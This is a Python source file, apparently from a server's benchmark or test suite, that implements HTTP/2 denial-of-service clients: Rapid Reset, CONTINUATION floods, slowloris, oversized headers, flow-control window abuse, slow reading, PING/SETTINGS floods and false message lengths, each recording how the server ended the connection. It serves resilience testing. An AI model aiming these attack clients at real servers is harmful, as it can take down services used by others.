"""What clients that mean harm do. Each attack gives in words what became of its connections."""

from __future__ import annotations

import select
import socket
import time
from dataclasses import dataclass
from typing import TYPE_CHECKING, Self

from bench.micro.fixtures import DUPLEX, body, headers
from bench.transport.client import REQUEST
from picker.serving.http2.frames import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    FRAME_HEADER,
    GOAWAY,
    HEADER_SIZE,
    HEADERS,
    MESSAGE_PREFIX,
    PING,
    PREFACE,
    SETTINGS,
    ErrorCode,
    Setting,
    frame,
    integer,
    rst_stream,
    settings,
    window_update,
)

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable

BLOCKED_SECONDS = 3.0
"""A connection that takes no more for so long is held back."""
MIB = 1 << 20
STREAMS = 1_000
TELLING_FRAMES = 100_000


class Attacker:
    """One connection; what comes back is read or left, as the attack wants it."""

    def __init__(self, address: str, *, reads: bool = True, hello: bytes | None = None) -> None:
        host, _, port = address.rpartition(":")
        self._socket = socket.create_connection((host, int(port)), timeout=BLOCKED_SECONDS)
        self._socket.setblocking(False)
        self._reads = reads
        self._received = bytearray()
        self.ended = ""
        """Why no more can be sent."""
        self.send(PREFACE + settings({}) + frame(SETTINGS, ACK, 0) if hello is None else hello)

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_exc: object) -> None:
        self._socket.close()

    def send(self, data: bytes) -> bool:
        """Send all of it; False if the connection ended or takes no more."""
        view = memoryview(data)
        deadline = time.monotonic() + BLOCKED_SECONDS
        while view and not self.ended:
            wanted = [self._socket] if self._reads else []
            readable, writable, _ = select.select(wanted, [self._socket], [], BLOCKED_SECONDS)
            if readable:
                self.read()
            try:
                if writable:
                    view = view[self._socket.send(view) :]
                    deadline = time.monotonic() + BLOCKED_SECONDS
            except BlockingIOError:
                pass
            except OSError:
                self.read()
                self.ended = self.ended or "cut"
            if time.monotonic() > deadline:
                self.ended = "held back"
        return not self.ended

    def send_all(self, parts: Iterable[bytes]) -> None:
        """Send until that is not possible any more."""
        for part in parts:
            if not self.send(part):
                return

    def read(self) -> None:
        """Take what is there."""
        try:
            while part := self._socket.recv(MIB):
                self._received += part
                self._forget_whole_frames()
            self.ended = self.ended or "closed"
        except BlockingIOError:
            pass
        except OSError:
            self.ended = self.ended or "cut"

    def outcome(self, seconds: float = 1.0) -> str:
        """What became of it, so long after the last that was sent."""
        until = time.monotonic() + seconds
        while time.monotonic() < until and not self.ended:
            if select.select([self._socket], [], [], 0.05)[0]:
                self.read()
        if self.ended:
            self.read()  # the reason may have come before the end
        return self.ended or "open"

    def _forget_whole_frames(self) -> None:
        data, at = self._received, 0
        while len(data) - at >= HEADER_SIZE:
            high, low, kind, _, _ = FRAME_HEADER.unpack_from(data, at)
            stop = at + HEADER_SIZE + (high << 8 | low)
            if stop > len(data):
                break
            if kind == GOAWAY:
                self.ended = f"GOAWAY {ErrorCode(integer(bytes(data[at + HEADER_SIZE + 4 : stop]))).name}"
            at = stop
        del data[:at]


def opening(stream_id: int, extra: bytes = b"") -> bytes:
    """The frame that opens a stream of ext_proc; ``extra`` is more of its header block."""
    return frame(HEADERS, END_HEADERS, stream_id, REQUEST + extra)


def message(stream_id: int, content: bytes) -> bytes:
    """One message in one frame."""
    return frame(DATA, 0, stream_id, MESSAGE_PREFIX.pack(0, len(content)) + content)


def field(name: bytes, size: int) -> bytes:
    """A header in HPACK, without index and compression; sizes from 127 to 16,510."""
    rest = size - 127
    return (
        b"\x00" + bytes([len(name)]) + name + b"\x7f" + bytes([rest & 0x7F | 0x80, rest >> 7]) + b"v" * size
    )


def rapid_reset(address: str) -> str:
    """100,000 streams, each reset at once."""
    with Attacker(address) as attacker:
        for first in range(1, 2 * TELLING_FRAMES, 2_000):
            pairs = (opening(n) + rst_stream(n, ErrorCode.CANCEL) for n in range(first, first + 2_000, 2))
            if not attacker.send(b"".join(pairs)):
                break
        return attacker.outcome()


def continuation_flood(address: str) -> str:
    """A header block that does not end."""
    with Attacker(address) as attacker:
        attacker.send(frame(HEADERS, 0, 1, REQUEST))
        attacker.send_all(frame(CONTINUATION, 0, 1, b"") * 1_000 for _ in range(TELLING_FRAMES // 1_000))
        return attacker.outcome()


def slowloris(address: str) -> str:
    """1,000 connections that stop in the midst of the preface, of a frame, of a header block."""
    beginnings = [
        PREFACE[:7],
        PREFACE + settings({})[:5],
        PREFACE + settings({}) + frame(HEADERS, 0, 1, REQUEST),
    ]
    attackers = [Attacker(address, hello=beginnings[n % 3]) for n in range(STREAMS)]
    until = time.monotonic() + 15.0
    while time.monotonic() < until and not all(attacker.ended for attacker in attackers):
        for attacker in attackers:
            attacker.read()
        time.sleep(0.1)
    ended = sum(bool(attacker.ended) for attacker in attackers)
    for attacker in attackers:
        attacker.__exit__()
    return f"{ended} of {len(attackers)} ended"


def huge_headers(address: str) -> str:
    """1,000 streams with different header lists of 60 kB each; then one of more than 64 KiB."""
    with Attacker(address) as attacker:
        for n in range(1, 2 * STREAMS, 2):
            extra = b"".join(field(b"x-%d-%d" % (n, part), 15_000) for part in range(4))
            attacker.send(opening(n, extra))
        if not attacker.ended:
            attacker.send(opening(2 * STREAMS + 1, field(b"x-more", 16_000) * 5))
        return attacker.outcome()


def window_games(address: str) -> str:
    """Windows of nothing, 1,000 requests that are answered, windows opened by single bytes."""
    hello = PREFACE + settings({Setting.INITIAL_WINDOW_SIZE: 0}) + frame(SETTINGS, ACK, 0)
    with Attacker(address, hello=hello) as attacker:
        last = body("request_body", bytes(30_000), end=True)
        for n in range(1, 2 * STREAMS, 2):
            attacker.send(opening(n) + message(n, _UPLOAD) + message(n, last))
        for _ in range(20):
            attacker.send(b"".join(window_update(n, 1) for n in range(1, 2 * STREAMS, 2)))
        attacker.send(settings({Setting.INITIAL_WINDOW_SIZE: 1}) + settings({Setting.INITIAL_WINDOW_SIZE: 0}))
        return attacker.outcome()


def slow_reader(address: str) -> str:
    """Bodies that are echoed, as much as may be sent at once; nothing is read."""
    hello = PREFACE + settings({Setting.INITIAL_WINDOW_SIZE: (1 << 31) - 1}) + frame(SETTINGS, ACK, 0)
    hello += window_update(0, (1 << 31) - 70_000)
    with Attacker(address, reads=False, hello=hello) as attacker:
        chunk = body("request_body", bytes(60_000), end=False)
        for n in range(1, 100, 2):
            attacker.send(opening(n) + message(n, _UPLOAD))
        attacker.send_all(message(n, chunk) for _ in range(20) for n in range(1, 100, 2))
        return attacker.outcome()


def control_flood(*, reads: bool) -> Callable[[str], str]:
    """Pings and settings, each of which is to be answered."""

    def attack(address: str) -> str:
        with Attacker(address, reads=reads) as attacker:
            pair = frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0)
            attacker.send_all(pair * 500 for _ in range(TELLING_FRAMES // 1_000))
            return attacker.outcome()

    return attack


def claimed_lengths(address: str) -> str:
    """1,000 streams, each the first 100 kB of a message of 60 MB."""
    with Attacker(address) as attacker:
        for n in range(1, 2 * STREAMS, 2):
            attacker.send(opening(n) + frame(DATA, 0, n, MESSAGE_PREFIX.pack(0, 60_000_000) + bytes(16_000)))
            attacker.send(frame(DATA, 0, n, bytes(16_000)) * 5)
        return attacker.outcome()


def empty_frames(address: str) -> str:
    """100,000 DATA frames of nothing."""
    with Attacker(address) as attacker:
        attacker.send(opening(1))
        attacker.send_all(frame(DATA, 0, 1) * 1_000 for _ in range(TELLING_FRAMES // 1_000))
        return attacker.outcome()


_UPLOAD = headers("request_headers", {":method": "POST", ":path": "/upload"}, (DUPLEX, DUPLEX))


@dataclass(frozen=True, slots=True)
class Attack:
    """One way to mean harm."""

    name: str
    run: Callable[[str], str]


ATTACKS = (
    Attack("100,000 streams opened and reset", rapid_reset),
    Attack("100,000 continuations", continuation_flood),
    Attack("1,000 connections that stop midway", slowloris),
    Attack("1,000 header lists of 60 kB, one above the limit", huge_headers),
    Attack("1,000 answers behind windows of nothing", window_games),
    Attack("60 MB to be echoed, nothing read", slow_reader),
    Attack("100,000 pings and settings", control_flood(reads=True)),
    Attack("the same, answers not read", control_flood(reads=False)),
    Attack("1,000 beginnings of 60-MB messages", claimed_lengths),
    Attack("100,000 empty DATA frames", empty_frames),
)
